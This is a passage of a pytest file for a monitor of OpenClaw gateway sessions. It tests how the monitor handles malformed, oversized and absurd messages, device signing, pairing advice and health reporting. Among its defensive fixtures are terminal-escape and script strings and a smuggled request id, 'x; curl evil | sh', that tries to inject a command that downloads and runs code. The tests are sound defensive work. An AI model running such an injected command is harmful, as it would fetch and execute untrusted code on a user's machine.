    gateway.hello = {**gateway.hello, "snapshot": {**gateway.hello["snapshot"], "suspension": {"phase": "prepared"}}}  # fmt: skip
    listen().wait_for(status="connected", suspended=True)


def test_nodes_are_the_devices_that_lend_their_tools(gateway: FakeGateway, listen: Any) -> None:
    """Rows as 2026.2.12 gave them: one that has gone stays for some minutes, with its reason."""
    listener = listen()
    listener.wait_for(status="connected", nodes=[])
    phone = {"host": "Phone", "mode": "node", "platform": "ios", "roles": ["node"], "deviceId": "d1", "reason": "connect", "ts": 1}  # fmt: skip
    others = [
        {"host": "vm", "mode": "gateway", "reason": "self"}, {"host": "cli", "mode": "backend", "roles": ["operator"], "reason": "connect"},
        {"host": "node-host", "mode": "node", "roles": ["node"], "reason": "disconnect"},
    ]  # fmt: skip
    told = {"id": "d1", "name": "Phone", "platform": "ios"}
    connection = gateway.client()

    def say(rows: Any) -> None:
        connection.say({"type": "event", "event": "presence", "payload": {"presence": rows}})

    say([*others, phone, phone])
    listener.wait_for(nodes=[told])
    wait_until(lambda: listener.of("gateway")[-1]["status"] == "connected" and len(listener.of("gateway")) == 2)  # fmt: skip
    hostile = [None, 5, [], {}, {"roles": "node"}, {"roles": ["node"], "host": 5}, {"roles": [["node"]], "host": "x"}]  # fmt: skip
    say("nonsense")
    say([*hostile, phone, *({"roles": ["node"], "host": f"h{n}" * 60} for n in range(3)), *({"roles": ["node"], "host": f"n{n:03}"} for n in range(200))])  # fmt: skip
    wait_until(lambda: len(listener.state.describe()["nodes"]) == clawmeter.MAX_NODES)
    say([{**phone, "reason": "disconnect"}])
    listener.wait_for(nodes=[])
    say([phone])
    listener.wait_for(nodes=[told])
    gateway.stop()
    listener.wait_for(status="unreachable", nodes=[])


def test_old_versions_are_asked_only_while_somebody_looks(listen: Any) -> None:
    gateway = FakeGateway("2026.2.12")
    del gateway.answers["sessions.subscribe"]
    listener = listen(gateway, start=False)
    listener.client.POLL_WITHOUT_EVENTS_S = listener.client.IDLE_S = 0.02
    listener.is_watched = False
    listener.client.start()
    connection = gateway.client()
    listener.wait_for(missing=["sessions.subscribe"], capabilities=["sessions.list"])
    threads = iter(range(20))
    wait_until(lambda: next(threads, None) is None)  # twenty times as long as it would take
    assert connection.asked("sessions.list") == 1
    listener.is_watched = True
    wait_until(lambda: connection.asked("sessions.list") > 3)
    gateway.stop()


def test_two_clients_in_one_process_know_nothing_of_each_other(gateway: FakeGateway, listen: Any) -> None:  # fmt: skip
    other = FakeGateway("2026.6.11")
    one, two = listen(), listen(other)
    gateway.client().say(start(seq=1))
    other.client().say(start(seq=1, sessionKey="agent:ops:main"))
    wait_until(lambda: one.doing() == "waiting" and two.doing("agent:ops:main") == "waiting")
    assert set(one.state.sessions) == {MAIN}
    assert set(two.state.sessions) == {"agent:ops:main"}
    other.stop()
    two.wait_for(status="unreachable")
    one.wait_for(status="connected")


# --- what should not come ------------------------------------------------------------------------

HOSTILE = [
    b"", b"null", b"[]", b"{", b"\xff\xfe", b'"event"', b'{"type":"event"}', b'{"type":"event","event":1}', b'{"type":"req","id":"1"}',
    b'{"type":"event","event":"agent","seq":"1"}', b'{"type":"event","event":"agent","seq":-1}', b'{"type":"event","event":"agent","seq":1e400}',
    b"[" * 100_000, b'{"type":"event","event":"' + b"x" * 1000 + b'"}',
]  # fmt: skip
#: Well-formed, and with nonsense in every place.
ABSURD: list[Any] = [
    None, [], "text", 7, {"sessionKey": {}}, {"sessionKey": ""}, {"sessionKey": "k" * 5000}, {"runId": [], "sessionKey": MAIN},
    {"runId": "r9", "sessionKey": 5, "stream": "lifecycle", "data": {"phase": "start"}}, {"runId": "r9" * 500, "sessionKey": MAIN, "stream": "assistant"},
    {"runId": "r1", "sessionKey": MAIN, "stream": {"a": 1}, "data": []}, {"runId": "r1", "sessionKey": MAIN, "stream": "tool", "data": {"phase": "start", "name": 5}},
    {"runId": "r1", "sessionKey": MAIN, "stream": "tool", "data": {"phase": ["start"], "name": "x", "toolCallId": "c"}},
    {"sessionKey": MAIN, "session": {"hasActiveRun": "no", "status": 5, "contextTokens": -1, "totalTokens": 1e308, "model": ["x"], "sessionId": {}}},
    {"sessionKey": MAIN, "session": [], "reason": {}, "phase": []}, {"state": "final"}, {"state": "final", "runId": None}, {"state": []},
    {"eventLoop": {"delayP99Ms": "x", "degraded": "yes"}}, {"phase": 5}, {"phase": {}}, {"presence": {"a": 1}}, {"presence": [5, None]},
]  # fmt: skip


def test_hostile_messages_change_nothing_but_counters(gateway: FakeGateway, listen: Any) -> None:
    listener = listen()
    connection = gateway.client()
    connection.say(start(), tool("start"))
    wait_until(lambda: listener.doing() == "tool")
    before = listener.run()
    for data in HOSTILE:
        connection.raw(encode(data))
    for event in ("agent", "session.tool", "chat", "sessions.changed", "session.message", "health", "gateway.suspension", "presence", "tick", "no.such.event"):  # fmt: skip
        connection.say(*({"type": "event", "event": event, "payload": payload} for payload in ABSURD))  # fmt: skip
    connection.say(*({"type": "res", "id": i, "ok": True, "payload": {}} for i in ("", "nobody asked", "clawmeter-1")))  # fmt: skip
    connection.say({"type": "event", "event": "heartbeat", "payload": {}}, tool("start", "read", call="c2"))  # fmt: skip
    wait_until(lambda: (listener.run() or {}).get("tool") == "read")
    after = listener.run()
    assert {**(after or {}), "tool": "exec"} == before
    counts = listener.state.describe()["frames"]
    assert counts["malformed"] == len(HOSTILE)
    assert counts["connects"] == 1
    assert set(listener.state.sessions) == {MAIN}
    assert json.dumps(listener.state.describe())


def test_hostile_lists_change_nothing(gateway: FakeGateway, listen: Any) -> None:
    for answer in ({"sessions": 5}, {"sessions": [None, 5, {}, {"key": []}, {"key": MAIN, "activeRunIds": [[], {}, 5], "hasActiveRun": True, "updatedAt": "x"}]}, [], "x"):  # fmt: skip
        state = GatewayState()
        state.set_status("connected")
        state.take_list(answer)
        assert set(state.sessions) <= {MAIN}
        assert state.describe()["live_runs"] <= 1
        assert all(isinstance(v.run, dict) for v in state.live())


def test_a_name_is_whole_or_none() -> None:
    assert clawmeter.short_text("x" * 300, 400) == "x" * 300
    assert clawmeter.short_text("x" * 401, 400) is None


def test_names_cannot_move_a_terminal_or_grow(gateway: FakeGateway, listen: Any) -> None:
    listener = listen()
    gateway.client().say(start(), tool("start", "\x1b[2Jexec\u202e"), agent_event("lifecycle", {"phase": "model", "model": "<script>" * 100}))  # fmt: skip
    wait_until(lambda: listener.doing() == "tool")
    run = listener.run() or {}
    assert run["tool"] == "\ufffd[2Jexec\ufffd"
    assert run["model"] is None


def test_messages_that_are_too_large_are_dropped_as_they_come(gateway: FakeGateway, listen: Any) -> None:  # fmt: skip
    listener = listen()
    connection = gateway.client()
    big = b'{"type":"event","event":"tick","payload":"' + b"x" * clawmeter.MAX_MESSAGE_BYTES + b'"}'
    connection.raw(encode(big))
    # In parts, none of which is too large by itself; and a part that is.
    half = clawmeter.MAX_MESSAGE_BYTES // 2 + 100
    connection.raw(encode(big[:half], last=False) + encode(b"", 9) + encode(big[half : half + 9], 0, last=False) + encode(big[:half], 0))  # fmt: skip
    connection.raw(encode(b"{", last=False) + encode(big, 0, last=False) + encode(b"}", 0))
    # In parts, and well.
    text = json.dumps(start(seq=1)).encode()
    connection.raw(encode(text[:10], last=False) + encode(text[10:20], 0, last=False) + encode(text[20:], 0))  # fmt: skip
    wait_until(lambda: listener.doing() == "waiting")
    counts = listener.state.describe()["frames"]
    assert (counts["oversized"], counts["connects"], counts["malformed"]) == (3, 1, 0)


NO_WEBSOCKET = {
    "a claim beyond all bounds": b"\x81\x7f" + b"\x7f" * 8,
    "masked, which only clients do": b"\x81\x85abcdhello",
    "bits that nobody agreed on": b"\xf1\x02{}",
    "a ping of 16 MB": b"\x89\x7f" + (1 << 24).to_bytes(8, "big"),
}


@pytest.mark.parametrize("what", NO_WEBSOCKET)
def test_what_is_no_websocket_ends_the_connection(
    gateway: FakeGateway, listen: Any, what: str
) -> None:
    listener = listen()
    gateway.client().raw(NO_WEBSOCKET[what])
    gateway.client(2)
    listener.wait_for(status="connected")


def test_what_is_kept_is_bounded() -> None:
    state = GatewayState()
    state.set_status("connected")

    def take(frame: Json) -> None:
        parsed = clawmeter.parse_frame(json.dumps(frame).encode())
        assert parsed
        state.take_event(parsed)

    for n in range(3000):
        take(start(runId=f"r{n}", sessionKey=f"agent:main:s{n}"))
        take(end(runId=f"r{n}", sessionKey=f"agent:main:s{n}"))
    assert len(state.sessions) == clawmeter.MAX_LIVE_SESSIONS
    assert len(state._ended) == clawmeter.MAX_ENDED_RUNS
    for n in range(600):  # all of them run: the later ones are not seen
        take(start(runId=f"x{n}", sessionKey=f"agent:main:x{n}"))
    for n in range(200):
        take(start(runId=f"y{n}", sessionKey="agent:main:x1"))
        take(tool("start", call=f"c{n}", runId="x0", sessionKey="agent:main:x0"))
    assert len(state.sessions) == clawmeter.MAX_LIVE_SESSIONS
    assert len(state.sessions["agent:main:x1"].runs) == clawmeter.MAX_RUNS
    assert len(state.sessions["agent:main:x0"].runs["x0"].tools) == clawmeter.MAX_TOOLS
    assert len(state._run_keys) < clawmeter.MAX_LIVE_SESSIONS + clawmeter.MAX_RUNS
    assert state.counts["ignored"] > 0


def test_a_flood_of_events_is_a_handful_of_messages(gateway: FakeGateway, listen: Any) -> None:
    listener = listen()
    connection = gateway.client()
    began = time.monotonic()
    deltas = [agent_event("assistant", {"text": "x" * n, "delta": "x"}, seq=n) for n in range(2, 1002)]  # fmt: skip
    connection.say(start(seq=1), *deltas)
    flips = [tool(("start", "result")[n % 2], seq=1002 + n) for n in range(2000)]
    connection.say(*flips, end(seq=3002))
    wait_until(lambda: listener.doing() == "done")
    wait_until(lambda: any(t["doing"] == "done" for t in listener.of("session")))
    took = time.monotonic() - began
    # One at once, then one each FLUSH_S: by no means one for each of 3,002 events.
    assert len(listener.of("session")) <= 2 + took / listener.client.FLUSH_S
    assert listener.of("session")[-1]["doing"] == "done"
    assert listener.state.describe()["frames"]["gaps"] == 0


# --- what others see of it -----------------------------------------------------------------------


@pytest.fixture
def home(tmp_path: Path) -> HandmadeHome:
    """Three sessions with a question as their last entry: running, as far as the files say."""
    made = HandmadeHome(tmp_path / "home")
    now = now_ms() - 60_000
    for sid in ("s-one", "s-two", "s-three"):
        made.write(sid, [header(sid, now), user("u1", now)])
    made.index({f"agent:main:{sid[2:]}": sid for sid in ("s-one", "s-two", "s-three")})
    return made


def test_overview_takes_the_word_of_the_gateway(home: HandmadeHome, gateway: FakeGateway, meter_factory: Any) -> None:  # fmt: skip
    gateway.answers["sessions.list"] = {
        "sessions": [row("agent:main:two", sessionId="s-two", updatedAt=now_ms())]
    }
    served = Served(meter_factory(home.path, gateway=True, gateway_url=gateway.url, gateway_token=TOKEN))  # fmt: skip
    try:
        with served.events() as events:
            connection = gateway.client()
            wait_until(lambda: served.get("/api/health")["gateway"]["capabilities"][:1] == ["active runs"])  # fmt: skip
            connection.say(
                start(seq=1, sessionKey="agent:main:one", sessionId="s-one", ts=now_ms())
            )
            connection.say(tool("start", seq=2, sessionKey="agent:main:one", ts=now_ms()))
            wait_until(lambda: any(e["doing"] == "tool" for e in events.of("session")))
            overview = served.get("/api/overview")
            rows = {r["id"]: r for r in overview["live"]}
            assert {i: (r["state"], r["inferred"]) for i, r in rows.items()} == {
                "s-one": ("running", False),  # it runs
                "s-two": ("idle", False),  # it does not, and the files could not know
                "s-three": ("running", True),  # the gateway says nothing about it
            }
            assert (rows["s-one"]["run"]["doing"], rows["s-one"]["run"]["tool"]) == ("tool", "exec")
            assert rows["s-three"]["run"] is None
            assert overview["source"]["gateway"].startswith("connected, OpenClaw 2026.9.6")
            assert overview["gateway"]["live_runs"] == 1
            running = {r["id"] for r in served.get("/api/sessions", state="running")}
            assert running == {"s-one", "s-three"}
            assert {r["id"] for r in served.get("/api/sessions", state="idle")} == {"s-two"}
            (told,) = [e for e in events.of("session") if e["doing"] == "tool"]
            assert (told["session"], told["key"], told["tool"]) == ("s-one", "agent:main:one", "exec")  # fmt: skip
            connection.say(end(seq=3, sessionKey="agent:main:one", ts=now_ms() + 1))
            wait_until(lambda: any(e["doing"] == "done" for e in events.of("session")))
            assert served.get("/api/sessions/s-one")["state"] == "idle"
            gateway.stop()
            wait_until(lambda: any(e["status"] == "unreachable" for e in events.of("gateway")))
            overview = served.get("/api/overview")
            assert overview["source"]["gateway"] == "not running"
            assert {(r["state"], r["inferred"]) for r in overview["live"]} == {("running", True)}
    finally:
        served.stop()


def test_fifty_open_pages_cost_one_connection(home: HandmadeHome, gateway: FakeGateway, meter_factory: Any) -> None:  # fmt: skip
    served = Served(meter_factory(home.path, gateway=True, gateway_url=gateway.url, gateway_token=TOKEN))  # fmt: skip
    try:
        with contextlib.ExitStack() as stack:
            pages = [stack.enter_context(served.events()) for _ in range(50)]
            gateway.client().say(tool("start", seq=1, sessionKey="agent:main:one", ts=now_ms()))
            wait_until(lambda: all(page.of("session") for page in pages), "the event on every page")
            assert {page.of("session")[0]["tool"] for page in pages} == {"exec"}
            assert len(gateway.connections) == 1
            assert gateway.connections[0].asked("sessions.list") == 1
    finally:
        served.stop()


def test_an_entry_that_is_younger_than_the_word_of_the_gateway_counts(home: HandmadeHome, gateway: FakeGateway, meter_factory: Any) -> None:  # fmt: skip
    """`openclaw agent --local` works without the gateway, in the sessions that it lists."""
    gateway.answers["sessions.list"] = {"sessions": [row("agent:main:two", sessionId="s-two", updatedAt=now_ms() - 120_000)]}  # fmt: skip
    meter = meter_factory(home.path, gateway=True, gateway_url=gateway.url, gateway_token=TOKEN)
    meter.index()
    meter.gateway.start()
    wait_until(lambda: meter.gateway_state.capabilities.get("sessions.list"))
    (found,) = [r for r in meter.queries.overview()["live"] if r["id"] == "s-two"]
    assert (found["state"], found["inferred"], found["run"]) == ("running", True, None)


def test_the_gateway_of_one_home_says_nothing_about_another(
    home: HandmadeHome, tmp_path: Path, gateway: FakeGateway, meter_factory: Any
) -> None:
    other = HandmadeHome(tmp_path / "other")
    now = now_ms() - 1000
    other.write("s-one", [header("s-one", now), user("u1", now)])
    other.index({"agent:main:one": "s-one"})
    meter = meter_factory(
        home.path, other.path, gateway=True, gateway_url=gateway.url, gateway_token=TOKEN
    )
    meter.index()
    meter.gateway.start()
    gateway.client().say(start(sessionKey="agent:main:one", sessionId="s-one", ts=now_ms()))
    wait_until(meter.gateway_state.has_runs)
    rows = [r for r in meter.queries.overview()["live"] if r["key"] == "agent:main:one"]
    assert {r["agent"]: r["inferred"] for r in rows} == {"main": False, "main@other": True}


def test_a_session_of_which_only_the_key_is_known(home: HandmadeHome, gateway: FakeGateway, meter_factory: Any) -> None:  # fmt: skip
    """Events of 2026.2 have no session id."""
    meter = meter_factory(home.path, gateway=True, gateway_url=gateway.url, gateway_token=TOKEN)
    meter.index()
    meter.gateway.start()
    gateway.client().say(start(sessionKey="agent:main:three", ts=now_ms()))
    wait_until(meter.gateway_state.has_runs)
    (found,) = [r for r in meter.queries.overview()["live"] if not r["inferred"]]
    assert (found["id"], found["run"]["doing"]) == ("s-three", "waiting")


def test_a_session_that_never_came_to_an_answer_stays_in_sight_when_its_run_was_aborted(home: HandmadeHome, gateway: FakeGateway, meter_factory: Any) -> None:  # fmt: skip
    """2026.2 writes the file of a session with its first answer: till then only the index knows it."""
    home.index({"agent:main:new": "s-new"})
    meter = meter_factory(home.path, gateway=True, gateway_url=gateway.url, gateway_token=TOKEN)
    meter.index()
    meter.gateway.start()

    def doing() -> Any:
        return [(r["id"], r["run"]["doing"]) for r in meter.queries.overview()["live"] if r["key"] == "agent:main:new"]  # fmt: skip

    gateway.client().say(start(sessionKey="agent:main:new", ts=now_ms()))
    wait_until(lambda: doing() == [("s-new", "waiting")])
    gateway.client().say({"type": "event", "event": "chat", "payload": {"runId": "r1", "sessionKey": "agent:main:new", "state": "aborted"}})  # fmt: skip
    wait_until(lambda: doing() == [("s-new", "aborted")])


def test_what_the_list_says_of_an_old_session_does_not_make_it_live(home: HandmadeHome, gateway: FakeGateway, meter_factory: Any) -> None:  # fmt: skip
    old = now_ms() - 40 * 86_400_000
    home.write("s-old", [header("s-old", old), user("u1", old)])
    home.index({"agent:main:old": "s-old"})
    gateway.answers["sessions.list"] = {"sessions": [row("agent:main:old", sessionId="s-old", updatedAt=9_999_999_999_999, status="done")]}  # fmt: skip
    meter = meter_factory(home.path, gateway=True, gateway_url=gateway.url, gateway_token=TOKEN)
    meter.index()
    meter.gateway.start()
    wait_until(lambda: meter.gateway_state.sessions)
    assert "s-old" not in {r["id"] for r in meter.queries.overview()["live"]}


def test_answers_are_as_described_while_connected(home: HandmadeHome, gateway: FakeGateway, meter_factory: Any) -> None:  # fmt: skip
    import jsonschema_rs

    meter = meter_factory(home.path, gateway=True, gateway_url=gateway.url, gateway_token=TOKEN)
    meter.index()
    meter.gateway.start()
    gateway.client().say(start(sessionKey="agent:main:one", ts=now_ms()))
    wait_until(lambda: meter.gateway_state.counts["received"] == 5)  # with both answers
    schemas = clawmeter.describe_api()["components"]["schemas"]
    gateway_told = meter.queries.overview()["gateway"]
    assert gateway_told == {**meter.queries.health()["gateway"], "uptime_s": gateway_told["uptime_s"]}  # fmt: skip
    (run,) = [r["run"] for r in meter.queries.overview()["live"] if r["run"]]
    for name, value in (("Gateway", gateway_told), ("Run", run)):
        whole = {**schemas[name], "additionalProperties": False, "components": {"schemas": schemas}}
        assert [e.message for e in jsonschema_rs.Draft202012Validator(whole).iter_errors(value)] == []  # fmt: skip


def test_without_a_gateway_everything_else_is_as_ever(home: HandmadeHome, meter_factory: Any) -> None:  # fmt: skip
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    meter = meter_factory(home.path, gateway=True, gateway_url=f"ws://127.0.0.1:{port}", gateway_token=TOKEN)  # fmt: skip
    meter.start()
    assert meter.passed.wait(PATIENCE_S)
    wait_until(lambda: meter.gateway_state.status == "unreachable")
    health = meter.queries.health()
    assert (health["status"], health["problems"]) == ("ok", [])
    assert meter.problems() == []
    assert health["gateway"]["text"] == "not running"
    assert meter.queries.overview()["attention"] == []
    meter.stop()
    assert not [t for t in threading.enumerate() if t.name == "gateway" and t is meter.gateway.thread]  # fmt: skip


def test_a_gateway_that_refuses_is_a_remark_on_health_and_not_a_fault(home: HandmadeHome, gateway: FakeGateway, meter_factory: Any) -> None:  # fmt: skip
    meter = meter_factory(home.path, gateway=True, gateway_url=gateway.url, gateway_token="wrong")
    meter.index()
    meter.gateway.start()
    wait_until(lambda: meter.gateway_state.status == "refused")
    health = meter.queries.health()
    assert health["status"] == "ok"
    (problem,) = health["problems"]
    assert problem["level"] == "warn"
    assert "token mismatch" in problem["text"]
    assert "OPENCLAW_GATEWAY_TOKEN" in problem["what_to_do"]
    assert "wrong" not in json.dumps(health)


def test_no_gateway_means_no_thread_and_no_connection(home: HandmadeHome, gateway: FakeGateway, meter_factory: Any) -> None:  # fmt: skip
    meter = meter_factory(home.path, gateway=False, gateway_url=gateway.url, gateway_token=TOKEN)
    meter.start()
    assert meter.passed.wait(PATIENCE_S)
    assert meter.gateway.thread is None
    assert meter.queries.health()["gateway"]["status"] == "off"
    assert gateway.connections == []


def test_config_of_the_home_leads_to_its_gateway(tmp_path: Path, gateway: FakeGateway, meter_factory: Any) -> None:  # fmt: skip
    """… and a token that is changed in it is used without a restart."""
    home = HandmadeHome(tmp_path / "home", gateway={"port": gateway.port, "auth": {"mode": "token", "token": "old"}})  # fmt: skip
    meter = meter_factory(home.path, gateway=True)
    meter.gateway.CONFIG_S = 0.02
    meter.gateway.start()
    wait_until(lambda: meter.gateway_state.status == "refused")
    config = home.state / "openclaw.json"
    config.write_text(config.read_text().replace('"old"', json.dumps(TOKEN)))
    wait_until(lambda: meter.gateway_state.status == "connected")


def run_command(*words: str, env: dict[str, str]) -> tuple[int, str]:
    import subprocess
    import sys

    from homes import ROOT

    done = subprocess.run([sys.executable, str(ROOT / "clawmeter.py"), *words], env=env, capture_output=True, text=True, timeout=60)  # fmt: skip
    assert "Traceback" not in done.stderr
    return done.returncode, done.stdout


def test_doctor_and_status_tell(home: HandmadeHome, gateway: FakeGateway, tmp_path: Path) -> None:
    where = ("--home", str(home.path), "--state", str(tmp_path / "state"))
    env = process_env(tmp_path, CLAWMETER_GATEWAY="1", CLAWMETER_GATEWAY_URL=gateway.url, OPENCLAW_GATEWAY_TOKEN=TOKEN)  # fmt: skip
    status, text = run_command("doctor", *where, env=env)
    assert f"ok  gateway {gateway.url}: connected, OpenClaw 2026.9.6" in text
    assert status == 0
    assert "gateway  connected, OpenClaw 2026.9.6" in run_command("status", *where, env=env)[1]
    status, text = run_command("doctor", *where, env={**env, "OPENCLAW_GATEWAY_TOKEN": "wrong"})
    assert status == 1
    assert "!!  the gateway refuses the token" in text
    assert "wrong" not in text
    status, text = run_command("doctor", *where, env={**env, "CLAWMETER_GATEWAY": "0"})
    assert "ok  gateway not asked" in text
    gateway.stop()
    status, text = run_command("doctor", *where, env=env)
    assert status == 0
    assert f"--  no gateway at {gateway.url}: nobody listens" in text
    assert "gateway  not running" in run_command("status", *where, env=env)[1]
    assert os.listdir(tmp_path / "home") == [".openclaw"]


# --- who we are to gateways on other machines ------------------------------------------------------


def open_base64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def test_a_gateway_on_another_machine_is_shown_a_signed_device(gateway: FakeGateway, tmp_path: Path) -> None:  # fmt: skip
    """The text that is signed is the gateway's (FORMATS: v2), for this challenge and this token only."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey

    far = clawmeter.Endpoint(gateway.url, (TOKEN,), is_remote=True)
    devices = []
    for scope in ("operator.read", "operator.admin"):
        connection = clawmeter.GatewayConnection([scope], state_dir=tmp_path)
        connection.connect(far)
        connection.close()
        params = gateway.connections[-1].requests[0]["params"]
        device = params["device"]
        devices.append((device["id"], device["publicKey"]))
        public = open_base64(device["publicKey"])
        assert device["id"] == hashlib.sha256(public).hexdigest()
        assert (device["nonce"], device["signedAt"]) == ("n", 1795237572293)
        text = f"v2|{device['id']}|gateway-client|backend|operator|{scope}|1795237572293|{TOKEN}|n"
        Ed25519PublicKey.from_public_bytes(public).verify(open_base64(device["signature"]), text.encode())  # fmt: skip
    assert len(set(devices)) == 1  # the same device each time
    assert (tmp_path / "device.pem").stat().st_mode & 0o777 == 0o600


def test_a_gateway_on_this_machine_is_shown_no_device(gateway: FakeGateway, tmp_path: Path) -> None:
    connection = clawmeter.GatewayConnection(state_dir=tmp_path)
    connection.connect(clawmeter.Endpoint(gateway.url, (TOKEN,)))
    connection.close()
    assert "device" not in gateway.connections[0].requests[0]["params"]
    assert not (tmp_path / "device.pem").exists()


@pytest.mark.parametrize("content", [b"", b"no key", b"-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n"])  # fmt: skip
def test_a_device_key_that_cannot_be_read_is_said_and_kept(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "device.pem").write_bytes(content)
    with pytest.raises(GatewayError, match="cannot use the device key") as error:
        clawmeter.DeviceIdentity.load(tmp_path)
    assert error.value.advice == "delete it for a new one, which has to be approved again"
    assert (tmp_path / "device.pem").read_bytes() == content


@pytest.mark.parametrize(
    ("request_id", "advice"),
    [
        ("78ef6615-ecd1", "on its machine: openclaw devices approve 78ef6615-ecd1"),
        ("x; curl evil | sh", "on its machine: openclaw devices list, then openclaw devices approve REQUEST"),
        (None, "on its machine: openclaw devices list, then openclaw devices approve REQUEST"),
    ],
)  # fmt: skip
def test_how_to_approve_a_pairing_is_nothing_that_a_gateway_could_make_up(request_id: Any, advice: str) -> None:  # fmt: skip
    details = {"code": "PAIRING_REQUIRED", "requestId": request_id}
    error = clawmeter.refusal_of({"code": "NOT_PAIRED", "message": "pairing required", "details": details})  # fmt: skip
    assert (error.status, error.advice) == ("pairing", advice)


@pytest.mark.parametrize(
    ("address", "is_public"),
    [("8.8.8.8", True), ("2001:4860:4860::8888", True), ("10.1.2.3", False), ("100.64.0.9", False), ("fe80::1%eth0", False), ("fd00::2", False)],
)  # fmt: skip
def test_tokens_do_not_cross_the_internet_in_the_clear(address: str, is_public: bool) -> None:  # noqa: FBT001
    assert clawmeter.is_public(address) is is_public
